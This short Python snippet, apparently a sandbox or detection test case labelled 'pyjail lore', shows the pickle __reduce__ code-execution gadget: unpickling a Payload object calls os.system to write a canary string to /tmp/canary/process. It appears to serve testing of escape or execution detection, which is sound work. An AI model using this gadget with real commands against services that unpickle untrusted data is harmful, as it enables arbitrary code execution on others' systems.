# source: pyjail lore
# effect: process

import os
import pickle


class Payload:
    def __reduce__(self):
        return os.system, ("echo pickles/reduce_os_system > /tmp/canary/process",)


pickle.loads(pickle.dumps(Payload()))
